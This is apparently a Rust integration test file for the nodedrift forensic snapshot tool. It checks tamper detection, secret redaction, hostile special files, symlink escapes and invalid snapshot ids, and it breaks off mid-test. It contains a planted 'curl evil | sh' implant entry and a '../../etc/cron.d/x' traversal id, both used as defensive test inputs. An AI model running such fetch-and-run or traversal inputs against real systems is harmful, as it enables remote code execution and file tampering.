//! Forensic snapshots end to end: the real binary and the library on fixture hosts and on this
//! machine; tampering, planted secrets, hostile files, bad ids, full and unwritable outputs,
//! the size cap.

use std::collections::BTreeMap;
use std::io::{Read, Write};
use std::os::unix::fs::PermissionsExt;
use std::path::Path;
use std::process::{Command, Stdio};
use std::time::SystemTime;

use nodedrift::baseline::Baseline;
use nodedrift::check::{self, ProfileChoice};
use nodedrift::host::HostRoot;
use nodedrift::snapshot::{self, SnapshotRequest};
use serde_json::{Value, json};

use crate::util::{Tmpfs, nodedrift, prepared_host, run};

/// Every entry of a bundle: path → bytes (decompressed).
pub(crate) fn entries(bundle: &[u8]) -> BTreeMap<String, Vec<u8>> {
    let gz = flate2::read::GzDecoder::new(bundle);
    let mut a = tar::Archive::new(gz);
    let mut out = BTreeMap::new();
    for e in a.entries().unwrap() {
        let mut e = e.unwrap();
        let p = String::from_utf8_lossy(&e.path_bytes()).into_owned();
        let mut b = Vec::new();
        e.read_to_end(&mut b).unwrap();
        out.insert(p, b);
    }
    out
}

/// The entry names in archive order.
fn order(bundle: &[u8]) -> Vec<String> {
    let gz = flate2::read::GzDecoder::new(bundle);
    let mut a = tar::Archive::new(gz);
    a.entries()
        .unwrap()
        .map(|e| String::from_utf8_lossy(&e.unwrap().path_bytes()).into_owned())
        .collect()
}

pub(crate) fn json_of(entries: &BTreeMap<String, Vec<u8>>, name: &str) -> Value {
    serde_json::from_slice(
        entries
            .get(name)
            .unwrap_or_else(|| panic!("no {name} in {:?}", entries.keys())),
    )
    .unwrap_or_else(|e| panic!("{name}: {e}"))
}

fn s(p: &Path) -> &str {
    p.to_str().unwrap()
}

/// `nodedrift snapshot verify FILE` → (exit code, stdout + stderr).
fn verify(file: &Path) -> (i32, String) {
    let out = run(&["snapshot", "verify", s(file)]);
    (
        out.status.code().unwrap(),
        format!(
            "{}{}",
            String::from_utf8_lossy(&out.stdout),
            String::from_utf8_lossy(&out.stderr)
        ),
    )
}

/// `nodedrift snapshot --host-root ROOT --state-dir STATE`, to add to.
fn snapshot_cmd(root: &Path, state: &Path) -> std::process::Command {
    let mut c = nodedrift();
    c.args(["snapshot", "--host-root", s(root), "--state-dir", s(state)]);
    c
}

/// A snapshot of `root` through the CLI into `out`; returns its stdout.
fn cli_snapshot(root: &Path, state: &Path, out: &Path, extra: &[&str]) -> String {
    let o = snapshot_cmd(root, state)
        .args(["--out", s(out)])
        .args(extra)
        .output()
        .unwrap();
    assert!(
        o.status.success(),
        "snapshot failed: {}\n{}",
        o.status,
        String::from_utf8_lossy(&o.stderr)
    );
    String::from_utf8_lossy(&o.stdout).into_owned()
}

fn sha256_hex(b: &[u8]) -> String {
    ring::digest::digest(&ring::digest::SHA256, b)
        .as_ref()
        .iter()
        .map(|x| format!("{x:02x}"))
        .collect()
}

#[test]
fn a_fixture_bundle_has_every_part_and_verifies() {
    let host = prepared_host("aks-ubuntu-drifted");
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    // A file baseline and a ledger with history, as a node that ran the agent has.
    let cap = run(&[
        "baseline",
        "capture",
        "--host-root",
        s(host.path()),
        "--state-dir",
        s(&state),
    ]);
    assert!(
        cap.status.code() == Some(0) || cap.status.code() == Some(3),
        "{}",
        String::from_utf8_lossy(&cap.stderr)
    );
    {
        let l = nodedrift::ledger::Ledger::open(&state).unwrap();
        let report = check::run(&check::CheckOptions {
            host_root: host.path().to_path_buf(),
            ..Default::default()
        })
        .unwrap();
        l.apply(&report.findings, None, 1_700_000_000).unwrap();
        l.apply(&report.findings, None, 1_700_000_060).unwrap();
    }
    let out = tmp.path().join("out/b.tar.gz");
    let printed = cli_snapshot(host.path(), &state, &out, &["--id", "case-42"]);
    let bytes = std::fs::read(&out).unwrap();
    let sha = sha256_hex(&bytes);
    assert!(
        printed.contains(&format!("snapshot {}", out.display())),
        "{printed}"
    );
    assert!(printed.contains(&format!("sha256 {sha}")), "{printed}");
    assert!(
        printed.contains(&format!("size {} bytes", bytes.len())),
        "{printed}"
    );
    let sidecar = std::fs::read_to_string(tmp.path().join("out/b.tar.gz.sha256")).unwrap();
    assert_eq!(sidecar, format!("{sha}  b.tar.gz\n"));
    assert_eq!(
        std::fs::metadata(&out).unwrap().permissions().mode() & 0o777,
        0o600
    );

    let (code, text) = verify(&out);
    assert_eq!(code, 0, "{text}");
    assert!(
        text.contains("OK") && text.contains("matches its .sha256"),
        "{text}"
    );

    let names = order(&bytes);
    assert_eq!(names.last().map(String::as_str), Some("manifest.json"));
    assert_eq!(names[names.len() - 2], "errors.json");
    // Value order: facts and findings first, logs last.
    let pos = |n: &str| names.iter().position(|x| x == n).unwrap();
    assert!(pos("facts.json") < pos("findings.json"));
    assert!(pos("findings.json") < pos("processes.json"));

    let e = entries(&bytes);
    let m = json_of(&e, "manifest.json");
    assert_eq!(m["id"], "case-42");
    assert_eq!(m["nodedriftVersion"], env!("CARGO_PKG_VERSION"));
    assert_eq!(m["limits"]["maxBundleBytes"], 256 << 20);
    assert!(
        m["node"]["os"].as_str().unwrap().contains("Ubuntu"),
        "{}",
        m["node"]
    );
    let listed: Vec<&str> = m["entries"]
        .as_array()
        .unwrap()
        .iter()
        .map(|x| x["path"].as_str().unwrap())
        .collect();
    assert_eq!(
        listed.len(),
        names.len() - 1,
        "every entry but the manifest is listed"
    );
    for c in [
        "facts",
        "node",
        "findings",
        "ledger",
        "nodedrift",
        "processes",
        "sockets",
        "mounts",
        "modules",
        "sysctl",
        "files",
        "configs",
        "kernel-log",
        "logs",
    ] {
        assert!(
            m["collectors"]
                .as_array()
                .unwrap()
                .iter()
                .any(|x| x["name"] == c && x["durationMs"].is_u64()),
            "collector {c} in {}",
            m["collectors"]
        );
    }

    let findings = json_of(&e, "findings.json");
    assert_eq!(findings["kind"], "CheckReport");
    assert!(findings["summary"]["fail"].as_u64().unwrap() > 0);
    assert_eq!(findings["profile"]["name"], "aks-ubuntu");
    assert_eq!(findings["fileIntegrity"]["state"], "verified");
    let ledger = json_of(&e, "ledger.json");
    let open = ledger["openFindings"].as_array().unwrap();
    assert!(!open.is_empty());
    assert_eq!(open[0]["occurrences"], 2);
    assert_eq!(open[0]["openedAt"], 1_700_000_000);
    assert_eq!(open[0]["lastSeen"], 1_700_000_060);
    let files = json_of(&e, "files/manifest.json");
    assert_eq!(files["integrity"], "verified");
    assert!(
        files["entries"]
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["path"] == "/etc/systemd/system/kubelet.service"
                && x["sha256"].as_str().is_some_and(|h| h.len() == 64)
                && x["mode"] == "0600")
    );
    assert!(e.contains_key("host/etc/default/kubeletconfig.json"));
    assert!(e.contains_key("host/etc/systemd/system/kubelet.service"));
    let configs = json_of(&e, "configs.json");
    let kc = configs["files"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["path"] == "/etc/default/kubeletconfig.json")
        .unwrap();
    let original = std::fs::read(host.path().join("etc/default/kubeletconfig.json")).unwrap();
    assert_eq!(
        kc["sha256"],
        sha256_hex(&original),
        "the original's hash is kept"
    );
    let facts = json_of(&e, "facts.json");
    assert!(facts["kubelet"]["facts"]["config"].is_object());
    let node = json_of(&e, "node.json");
    assert_eq!(node["os"]["ID"], "ubuntu");
    assert!(e.contains_key("nodedrift/baseline.yaml"));
    assert!(json_of(&e, "nodedrift/config.json")["config"]["stateDir"].is_string());
    let errors = json_of(&e, "errors.json");
    assert!(
        errors["errors"]
            .as_array()
            .unwrap()
            .iter()
            .any(|x| x["collector"] == "logs"),
        "a fixture without logs says so: {errors}"
    );
}

/// An archive entry: name and content.
type Named = (String, Vec<u8>);

#[test]
fn tampering_is_detected() {
    let host = prepared_host("aks-ubuntu-drifted");
    let tmp = tempfile::tempdir().unwrap();
    let good = tmp.path().join("good.tar.gz");
    cli_snapshot(host.path(), &tmp.path().join("state"), &good, &[]);
    let bytes = std::fs::read(&good).unwrap();
    assert_eq!(verify(&good).0, 0);

    let case = |name: &str, data: &[u8]| {
        let p = tmp.path().join(name);
        std::fs::write(&p, data).unwrap();
        let (code, text) = verify(&p);
        assert_eq!(code, 1, "{name} passed verification:\n{text}");
        assert!(text.contains("FAILED"), "{name}: {text}");
        text
    };
    // A flipped byte in the compressed stream.
    let mut flipped = bytes.clone();
    let mid = flipped.len() / 2;
    flipped[mid] ^= 0x40;
    case("flipped.tar.gz", &flipped);
    // Truncated, at several points.
    for (i, cut) in [bytes.len() - 1, bytes.len() - 9, bytes.len() / 2, 20]
        .into_iter()
        .enumerate()
    {
        let text = case(&format!("trunc{i}.tar.gz"), &bytes[..cut]);
        assert!(
            text.contains("corrupt or truncated") || text.contains("no manifest"),
            "{text}"
        );
    }
    // Garbage appended after the stream.
    let mut trailing = bytes.clone();
    trailing.extend_from_slice(b"more");
    case("trailing.tar.gz", &trailing);

    // Rebuilt archives: an entry added, one changed, one removed (manifest kept).
    let rebuild = |f: &dyn Fn(&mut Vec<Named>)| -> Vec<u8> {
        let mut list: Vec<Named> = {
            let e = entries(&bytes);
            order(&bytes)
                .into_iter()
                .map(|n| {
                    let b = e[&n].clone();
                    (n, b)
                })
                .collect()
        };
        f(&mut list);
        let gz = flate2::write::GzEncoder::new(Vec::new(), flate2::Compression::default());
        let mut t = tar::Builder::new(gz);
        for (n, b) in &list {
            let mut h = tar::Header::new_gnu();
            h.set_size(b.len() as u64);
            h.set_mode(0o600);
            t.append_data(&mut h, n, b.as_slice()).unwrap();
        }
        t.into_inner().unwrap().finish().unwrap()
    };
    let text = case(
        "added.tar.gz",
        &rebuild(&|l| {
            let at = l.len() - 1;
            l.insert(at, ("implant.sh".into(), b"curl evil | sh\n".to_vec()))
        }),
    );
    assert!(
        text.contains("implant.sh") && text.contains("extra entry"),
        "{text}"
    );
    let text = case(
        "after.tar.gz",
        &rebuild(&|l| l.push(("late.txt".into(), b"x".to_vec()))),
    );
    assert!(text.contains("late.txt"), "{text}");
    let text = case(
        "changed.tar.gz",
        &rebuild(&|l| {
            let f = l.iter_mut().find(|(n, _)| n == "findings.json").unwrap();
            let s = String::from_utf8(f.1.clone())
                .unwrap()
                .replace("\"fail\"", "\"pass\"");
            f.1 = s.into_bytes();
        }),
    );
    assert!(text.contains("findings.json"), "{text}");
    let text = case(
        "removed.tar.gz",
        &rebuild(&|l| l.retain(|(n, _)| n != "node.json")),
    );
    assert!(
        text.contains("node.json") && text.contains("missing"),
        "{text}"
    );

    // An intact bundle whose sidecar disagrees.
    let copy = tmp.path().join("copy.tar.gz");
    std::fs::write(&copy, &bytes).unwrap();
    std::fs::write(
        tmp.path().join("copy.tar.gz.sha256"),
        format!("{}  copy.tar.gz\n", "0".repeat(64)),
    )
    .unwrap();
    let (code, text) = verify(&copy);
    assert_eq!(code, 1, "{text}");
    assert!(text.contains(".sha256 says"), "{text}");
    // Not a bundle at all, and no file.
    assert_eq!(verify(&tmp.path().join("nothing")).0, 1);
}

/// The secrets planted below, one per source; none may appear anywhere in a bundle.
const SECRETS: &[&str] = &[
    "AzSecret-0001",
    "AzCertPw-0002",
    "U3RvcmFnZUFjY291bnRLZXk-0003",
    "SasSig-0004",
    "KubeTok-0005",
    "Q2xpZW50S2V5RGF0YQ-0006",
    "KubePw-0007",
    "EnvTok-0008",
    "EnvSecret-0009",
    "UnitTok-0010",
    "UnitPw-0011",
    "UnitEnvTok-0012",
    "MIIEpAIBAAKCAQEA0013",
    "RegistryPw-0014",
    "LogBearer-0015",
    "LogToken-0016",
    "KernPw-0017",
    "ProxyPw-0018",
    "StableSecret-0019",
    "CfgUrlPw-0020",
    "CfgTok-0021",
    "CfgKey-0022",
    "ShadowHash-0023",
    "MIIEvQIBADANBgkqhkiG0024",
    "UrlPw-0025",
];

const JWT: &str =
    "eyJhbGciOiJSUzI1NiIsImtpZCI6IjAwMjYifQ.eyJzdWIiOiJzeXN0ZW06bm9kZTowMDI2In0.SigPart0026";

fn write(root: &Path, path: &str, text: &str) {
    let p = root.join(path.trim_start_matches('/'));
    std::fs::create_dir_all(p.parent().unwrap()).unwrap();
    std::fs::write(p, text).unwrap();
}

fn append(root: &Path, path: &str, text: &str) {
    let p = root.join(path.trim_start_matches('/'));
    let mut f = std::fs::OpenOptions::new().append(true).open(p).unwrap();
    f.write_all(text.as_bytes()).unwrap();
}

fn assert_clean(bundle: &[u8], what: &str, extra: &[&str]) {
    // The decompressed stream as a whole (names, headers) and every entry on its own.
    let mut all = Vec::new();
    flate2::read::GzDecoder::new(bundle)
        .read_to_end(&mut all)
        .unwrap();
    let all = String::from_utf8_lossy(&all).into_owned();
    for secret in SECRETS.iter().chain(&[JWT]).chain(extra) {
        assert!(!all.contains(secret), "{what}: secret {secret} leaked");
    }
    for (name, b) in entries(bundle) {
        let text = String::from_utf8_lossy(&b);
        for secret in SECRETS.iter().chain(&[JWT]).chain(extra) {
            assert!(
                !text.contains(secret),
                "{what}: {secret} in {name}:\n{text}"
            );
        }
    }
}

#[test]
fn planted_secrets_never_reach_the_bundle() {
    let host = prepared_host("aks-ubuntu-drifted");
    let r = host.path();
    let now = nodedrift::clock::rfc3339(SystemTime::now());
    write(
        r,
        "/etc/kubernetes/azure.json",
        r#"{
    "cloud": "AzurePublicCloud",
    "aadClientId": "00000000-0000-0000-0000-00000000c1d0",
    "aadClientSecret": "AzSecret-0001",
    "aadClientCertPassword": "AzCertPw-0002",
    "userAssignedIdentityID": "11111111-2222-3333-4444-555555555555",
    "storageConnection": "DefaultEndpointsProtocol=https;AccountName=acct;AccountKey=U3RvcmFnZUFjY291bnRLZXk-0003;EndpointSuffix=core.windows.net",
    "backupUrl": "https://acct.blob.core.windows.net/c/x?sv=2022-11-02&sr=b&sig=SasSig-0004&se=2030-01-01"
}
"#,
    );
    append(
        r,
        "/var/lib/kubelet/kubeconfig",
        "- name: admin\n  user:\n    token: KubeTok-0005\n    client-key-data: Q2xpZW50S2V5RGF0YQ-0006\n    client-certificate-data: UHVibGljQ2VydA==\n- name: basic\n  user:\n    username: admin\n    password: KubePw-0007\n",
    );
    append(
        r,
        "/etc/default/kubelet",
        "KUBELET_BOOTSTRAP_TOKEN=EnvTok-0008\nexport AZURE_CLIENT_SECRET='EnvSecret-0009'\n",
    );
    write(
        r,
        "/etc/systemd/system/kubelet.service.d/99-secret.conf",
        "[Service]\nEnvironment=\"BOOTSTRAP_TOKEN=UnitEnvTok-0012\"\nExecStart=\nExecStart=/usr/local/bin/kubelet --token=UnitTok-0010 --password UnitPw-0011 --v=2\n",
    );
    write(
        r,
        "/etc/kubernetes/certs/client.key",
        "-----BEGIN RSA PRIVATE KEY-----\nMIIEpAIBAAKCAQEA0013\nAAAABBBBCCCCDDDD\n-----END RSA PRIVATE KEY-----\n",
    );
    write(
        r,
        "/etc/kubernetes/certs/apiserver.pem",
        "-----BEGIN CERTIFICATE-----\nMIIBpublicCERT\n-----END CERTIFICATE-----\n-----BEGIN PRIVATE KEY-----\nMIIEvQIBADANBgkqhkiG0024\n-----END PRIVATE KEY-----\n",
    );
    append(
        r,
        "/etc/containerd/config.toml",
        "  [plugins.\"io.containerd.grpc.v1.cri\".registry.configs.\"acr.example\".auth]\n    username = \"puller\"\n    password = \"RegistryPw-0014\"\n",
    );
    write(
        r,
        "/etc/shadow",
        "root:$6$salt$ShadowHash-0023:19000:0:99999:7:::\ndaemon:*:19000:0:99999:7:::\n",
    );
    write(
        r,
        "/var/log/syslog",
        &format!(
            "{now} aks-node kubelet[1201]: I1122 request failed header=\"Authorization: Bearer LogBearer-0015\"\n\
             {now} aks-node kubelet[1201]: bootstrap with token=LogToken-0016 jwt {JWT}\n\
             {now} aks-node containerd[1101]: pulling from https://puller:UrlPw-0025@acr.example/v2/\n\
             {now} aks-node kernel: [  1.0] cifs: mount password=KernPw-0017,uid=0\n"
        ),
    );
    write(
        r,
        "/var/log/kern.log",
        &format!("{now} aks-node kernel: [  1.0] cifs: mount password=KernPw-0017,uid=0\n"),
    );
    write(
        r,
        "/var/log/pods/kube-system_kube-proxy-abcde_0000/kube-proxy/0.log",
        &format!("{now} stderr F I1122 proxier.go] using --proxy-password=ProxyPw-0018\n"),
    );
    write(
        r,
        "/proc/sys/net/ipv6/conf/all/stable_secret",
        "StableSecret-0019\n",
    );

    let h = HostRoot::new(r).unwrap();
    let baseline = Baseline::profile("aks-ubuntu").unwrap();
    let profile = ProfileChoice {
        name: "aks-ubuntu".into(),
        selected_by: "forced",
        reason: "test".into(),
    };
    let mut req = SnapshotRequest::new(&h, "secrets", profile, &baseline);
    req.config = json!({
        "endpoint": {"url": "https://collector:CfgUrlPw-0020@events.example/ingest?token=CfgTok-0021",
                     "tokenFile": "/var/run/secrets/token"},
        "apiKey": "CfgKey-0022",
        "note": "nothing secret here"
    });
    let mut bundle = Vec::new();
    let outcome = snapshot::take(&req, &mut bundle).unwrap();
    assert_eq!(outcome.sha256, sha256_hex(&bundle));
    assert_clean(&bundle, "fixture", &[]);

    // The markers say what was removed, where it was.
    let e = entries(&bundle);
    let text = |n: &str| String::from_utf8_lossy(&e[n]).into_owned();
    let azure = text("host/etc/kubernetes/azure.json");
    assert!(
        azure.contains(r#""aadClientSecret": "<redacted: secret>""#),
        "{azure}"
    );
    assert!(
        azure.contains(r#""aadClientCertPassword": "<redacted: password>""#),
        "{azure}"
    );
    assert!(azure.contains("AccountKey=<redacted: key>"), "{azure}");
    assert!(azure.contains("sig=<redacted: signature>"), "{azure}");
    assert!(
        azure.contains("11111111-2222-3333-4444-555555555555"),
        "not a secret: {azure}"
    );
    serde_json::from_str::<Value>(&azure).expect("the redacted azure.json is still JSON");
    let kc = text("host/var/lib/kubelet/kubeconfig");
    assert!(kc.contains("token: <redacted: token>"), "{kc}");
    assert!(
        kc.contains("client-key-data: <redacted: private key>"),
        "{kc}"
    );
    assert!(
        kc.contains("client-certificate-data: UHVibGljQ2VydA=="),
        "{kc}"
    );
    assert!(kc.contains("password: <redacted: password>"), "{kc}");
    assert!(text("host/etc/kubernetes/certs/client.key").contains("<redacted: private key>"));
    let pem = text("host/etc/kubernetes/certs/apiserver.pem");
    assert!(
        pem.contains("MIIBpublicCERT") && pem.contains("<redacted: private key>"),
        "{pem}"
    );
    assert!(text("host/etc/shadow").contains("root:<redacted: password hash>:19000"));
    let unit = text("host/etc/systemd/system/kubelet.service.d/99-secret.conf");
    assert!(unit.contains("--token=<redacted: token>"), "{unit}");
    assert!(unit.contains("--password <redacted: password>"), "{unit}");
    let logs = text("logs/kubelet/var/log/syslog");
    assert!(logs.contains("Bearer <redacted: token>"), "{logs}");
    let config = text("nodedrift/config.json");
    assert!(config.contains("nothing secret here") && config.contains("/var/run/secrets/token"));
    let sysctl = text("sysctl.txt");
    assert!(
        sysctl.contains("net.ipv6.conf.all.stable_secret = <redacted: secret>"),
        "{sysctl}"
    );
    let m = json_of(&e, "manifest.json");
    assert!(
        m["redactions"].as_object().unwrap().len() >= 4,
        "{}",
        m["redactions"]
    );
}

/// A child that stays alive (reading its stdin) with secrets on its command line.
struct Child(std::process::Child);

impl Drop for Child {
    fn drop(&mut self) {
        let _ = self.0.kill();
        let _ = self.0.wait();
    }
}

#[test]
fn secrets_on_live_command_lines_are_redacted() {
    let argv_secrets = ["ArgvPw-9001", "ArgvTok-9002", "ArgvSecret-9003"];
    let child = Child(
        Command::new("sh")
            .args([
                "-c",
                "read _ || true",
                "sh",
                "--password",
                argv_secrets[0],
                &format!("--token={}", argv_secrets[1]),
                &format!("AZURE_CLIENT_SECRET={}", argv_secrets[2]),
            ])
            .stdin(Stdio::piped())
            .spawn()
            .unwrap(),
    );
    let pid = child.0.id();
    let h = HostRoot::new("/").unwrap();
    let baseline = Baseline::profile("generic").unwrap();
    let profile = check::choose_profile(Some("generic"), &Default::default());
    let mut req = SnapshotRequest::new(&h, "live", profile, &baseline);
    // This machine's logs are not what the test is about.
    req.limits.budgets.insert(
        "logs".into(),
        snapshot::Budget {
            time: std::time::Duration::from_secs(60),
            bytes: 1 << 20,
        },
    );
    let mut bundle = Vec::new();
    snapshot::take(&req, &mut bundle).unwrap();
    assert_clean(&bundle, "live", &argv_secrets);
    let e = entries(&bundle);
    let procs = json_of(&e, "processes.json");
    let me = procs["processes"]
        .as_array()
        .unwrap()
        .iter()
        .find(|p| p["pid"] == pid)
        .unwrap_or_else(|| panic!("pid {pid} listed"));
    assert_eq!(
        me["cmdline"],
        json!([
            "sh",
            "-c",
            "read _ || true",
            "sh",
            "--password",
            "<redacted: password>",
            "--token=<redacted: token>",
            "AZURE_CLIENT_SECRET=<redacted: secret>"
        ])
    );
    assert!(
        me["parents"]
            .as_array()
            .unwrap()
            .contains(&json!(std::process::id()))
    );
    assert!(me["startUnix"].is_i64());
    drop(child);
}

#[test]
fn processes_exiting_during_collection_do_not_break_the_bundle() {
    use std::sync::Arc;
    use std::sync::atomic::{AtomicBool, Ordering};
    let stop = Arc::new(AtomicBool::new(false));
    let churn = {
        let stop = stop.clone();
        std::thread::spawn(move || {
            let mut n = 0u64;
            while !stop.load(Ordering::Relaxed) {
                // Started and killed at once: exits while the snapshot reads /proc.
                if let Ok(mut c) = Command::new("sleep").arg("5").spawn() {
                    let _ = c.kill();
                    let _ = c.wait();
                    n += 1;
                }
                if let Ok(mut c) = Command::new("true").spawn() {
                    let _ = c.wait();
                }
            }
            n
        })
    };
    let h = HostRoot::new("/").unwrap();
    let baseline = Baseline::profile("generic").unwrap();
    let profile = check::choose_profile(Some("generic"), &Default::default());
    let tmp = tempfile::tempdir().unwrap();
    for i in 0..3 {
        let req = SnapshotRequest::new(&h, "churn", profile.clone(), &baseline);
        let path = tmp.path().join(format!("{i}.tar.gz"));
        let outcome = snapshot::take_to_file(&req, &path).unwrap();
        assert!(outcome.entries > 5);
        let v = snapshot::verify(&path).unwrap();
        assert!(v.ok(), "{:?}", v.problems);
        let e = entries(&std::fs::read(&path).unwrap());
        let procs = json_of(&e, "processes.json");
        assert!(
            procs["processes"]
                .as_array()
                .unwrap()
                .iter()
                .any(|p| p["pid"] == std::process::id())
        );
    }
    stop.store(true, Ordering::Relaxed);
    assert!(churn.join().unwrap() > 0, "children were started meanwhile");
}

#[test]
fn hostile_files_huge_logs_special_files_and_escapes() {
    use std::os::unix::fs::symlink;
    let host = prepared_host("aks-ubuntu-drifted");
    let r = host.path();
    let outside = tempfile::tempdir().unwrap();
    std::fs::write(outside.path().join("secret.conf"), "OutsideRoot-7001\n").unwrap();

    // A sparse 6 GiB syslog whose last lines are the kubelet's.
    let now = nodedrift::clock::rfc3339(SystemTime::now());
    let syslog = r.join("var/log/syslog");
    std::fs::create_dir_all(syslog.parent().unwrap()).unwrap();
    let f = std::fs::File::create(&syslog).unwrap();
    f.set_len(6 << 30).unwrap();
    drop(f);
    let tail: String = (0..50)
        .map(|i| format!("{now} aks-node kubelet[1201]: tail line {i}\n"))
        .collect();
    append(r, "/var/log/syslog", &tail);

    // A FIFO where the containerd config is expected, one in a watched tree, a device if
    // allowed, an unreadable file, a symlink out of the root, a directory named like a file.
    let cfg = r.join("etc/containerd/config.toml");
    std::fs::remove_file(&cfg).unwrap();
    nix::unistd::mkfifo(&cfg, nix::sys::stat::Mode::from_bits_truncate(0o644)).unwrap();
    nix::unistd::mkfifo(
        &r.join("etc/kubernetes/pipe.conf"),
        nix::sys::stat::Mode::from_bits_truncate(0o644),
    )
    .unwrap();
    let device = nix::sys::stat::mknod(
        &r.join("etc/kubernetes/null.conf"),
        nix::sys::stat::SFlag::S_IFCHR,
        nix::sys::stat::Mode::from_bits_truncate(0o644),
        nix::sys::stat::makedev(1, 3),
    )
    .is_ok();
    let locked = r.join("etc/kubernetes/locked.conf");
    std::fs::write(&locked, "locked: true\n").unwrap();
    std::fs::set_permissions(&locked, std::fs::Permissions::from_mode(0o000)).unwrap();
    let depth = r.components().count() + 2;
    let up = "../".repeat(depth);
    symlink(
        format!("{up}{}", outside.path().join("secret.conf").display()),
        r.join("etc/kubernetes/escape.conf"),
    )
    .unwrap();
    symlink(
        outside.path().join("secret.conf"),
        r.join("etc/kubernetes/absolute.conf"),
    )
    .unwrap();
    std::fs::create_dir_all(r.join("etc/kubernetes/dir.conf")).unwrap();
    symlink(
        outside.path().join("secret.conf"),
        r.join("etc/systemd/system/kubelet.service.d/50-escape.conf"),
    )
    .unwrap();

    let tmp = tempfile::tempdir().unwrap();
    let out = tmp.path().join("b.tar.gz");
    // Bounded by nextest's slow-timeout: a FIFO opened for reading would hang here.
    cli_snapshot(r, &tmp.path().join("state"), &out, &[]);
    assert_eq!(verify(&out).0, 0);
    let bytes = std::fs::read(&out).unwrap();
    assert!(!String::from_utf8_lossy(&bytes).contains("OutsideRoot-7001"));
    let e = entries(&bytes);
    for (name, b) in &e {
        assert!(
            !String::from_utf8_lossy(b).contains("OutsideRoot-7001"),
            "a file outside the host root reached {name}"
        );
    }
    // Only the tail of the huge log was read, and its newest lines kept.
    let logs = json_of(&e, "logs/components.json");
    let src = logs["sources"]
        .as_array()
        .unwrap()
        .iter()
        .find(|x| x["component"] == "kubelet" && x["source"] == "/var/log/syslog")
        .unwrap();
    let size = src["fileSize"].as_u64().unwrap();
    assert!(size > 6 << 30);
    assert_eq!(
        src["readFrom"].as_u64().unwrap(),
        size - snapshot::DEFAULT_LOG_SCAN_BYTES
    );
    assert_eq!(src["linesKept"], 50);
    let kept = String::from_utf8_lossy(&e["logs/kubelet/var/log/syslog"]).into_owned();
    assert!(
        kept.contains("tail line 0\n") && kept.ends_with("tail line 49\n"),
        "{kept}"
    );
    assert!(!kept.contains('\0'));

    let errors = json_of(&e, "errors.json").to_string();
    assert!(
        errors.contains("/etc/containerd/config.toml") && errors.contains("FIFO"),
        "{errors}"
    );
    assert!(errors.contains("pipe.conf"), "{errors}");
    if device {
        assert!(errors.contains("null.conf"), "{errors}");
    }
    let configs = json_of(&e, "configs.json").to_string();
    if !nix::unistd::getuid().is_root() {
        assert!(
            errors.contains("locked.conf: permission denied"),
            "{errors}"
        );
    }
    assert!(!configs.contains("\"entry\":\"host/etc/kubernetes/pipe.conf\""));
}

#[test]
fn bad_ids_are_refused_and_nothing_is_written() {
    let host = prepared_host("kubeadm");
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let long = "a".repeat(10 << 10);
    for id in [
        "../../etc/cron.d/x",
        "a/b",
        ".hidden",
        "-rf",
        "a b",
        "x\ny",
        long.as_str(),
    ] {
        let o = snapshot_cmd(host.path(), &state)
            .arg(format!("--id={id}"))
            .output()
            .unwrap();
        assert_eq!(o.status.code(), Some(64), "{id:?}");
        let err = String::from_utf8_lossy(&o.stderr);
        assert!(err.contains("invalid snapshot id"), "{err}");
        assert!(
            err.len() < 400,
            "the error does not echo a 10 KB id: {}",
            err.len()
        );
        assert!(!state.exists(), "nothing written for {id:?}");
    }
    // The library refuses them too, before creating anything.
    let h = HostRoot::new(host.path()).unwrap();
    let baseline = Baseline::profile("generic").unwrap();
    let profile = check::choose_profile(Some("generic"), &Default::default());
    let req = SnapshotRequest::new(&h, "../x", profile, &baseline);
    let out = tmp.path().join("lib/x.tar.gz");
    assert!(matches!(
        snapshot::take_to_file(&req, &out),
        Err(snapshot::SnapshotError::InvalidId { .. })
    ));
    assert!(!tmp.path().join("lib").exists());
}

fn listing(dir: &Path) -> Vec<String> {
    let mut v: Vec<String> = std::fs::read_dir(dir)
        .map(|rd| {
            rd.map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
                .collect()
        })
        .unwrap_or_default();
    v.sort();
    v
}

#[test]
fn a_full_or_unwritable_output_fails_cleanly_without_leftovers() {
    let host = prepared_host("aks-ubuntu-drifted");
    let tmp = tempfile::tempdir().unwrap();
    let state = tmp.path().join("state");
    let snap = |out: &Path| {
        snapshot_cmd(host.path(), &state)
            .args(["--out", s(out)])
            .output()
            .unwrap()
    };

    // The parent of the output is a regular file.
    let blocker = tmp.path().join("blocker");
    std::fs::write(&blocker, b"").unwrap();
    let o = snap(&blocker.join("b.tar.gz"));
    assert_eq!(o.status.code(), Some(70));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("blocker"), "{err}");

    // The library to a writer that is always full.
    let h = HostRoot::new(host.path()).unwrap();
    let baseline = Baseline::profile("aks-ubuntu").unwrap();
    let profile = check::choose_profile(Some("aks-ubuntu"), &Default::default());
    let req = SnapshotRequest::new(&h, "full", profile.clone(), &baseline);
    let mut full = std::fs::OpenOptions::new()
        .write(true)
        .open("/dev/full")
        .unwrap();
    let e = snapshot::take(&req, &mut full).unwrap_err();
    assert!(matches!(e, snapshot::SnapshotError::Write(_)), "{e}");

    // A file system too small for the bundle, and a read-only one (the tests run as root, as
    // the other mount-namespace tests do).
    let small = Tmpfs::mount("size=16k,mode=0700")
        .expect("mounting a tmpfs (run the tests as root: tests/run.sh)");
    let o = snap(&small.0.path().join("b.tar.gz"));
    assert_eq!(o.status.code(), Some(70));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("No space left on device"), "{err}");
    assert!(
        listing(small.0.path()).is_empty(),
        "left behind: {:?}",
        listing(small.0.path())
    );
    let ro = Tmpfs::mount("size=1m,ro").unwrap();
    let o = snap(&ro.0.path().join("b.tar.gz"));
    assert_eq!(o.status.code(), Some(70));
    assert!(String::from_utf8_lossy(&o.stderr).contains("Read-only file system"));
    assert!(listing(ro.0.path()).is_empty());
}

#[test]
fn the_size_cap_trims_logs_oldest_lines_first() {
    let host = prepared_host("aks-ubuntu-drifted");
    let r = host.path();
    let now = nodedrift::clock::rfc3339(SystemTime::now());
    // About 3 MiB of kubelet lines that do not compress (random hex).
    let mut rng = fastrand::Rng::with_seed(7);
    let mut text = String::new();
    for i in 0..20_000 {
        let noise: String = (0..120)
            .map(|_| char::from_digit(rng.u32(0..16), 16).unwrap())
            .collect();
        text.push_str(&format!(
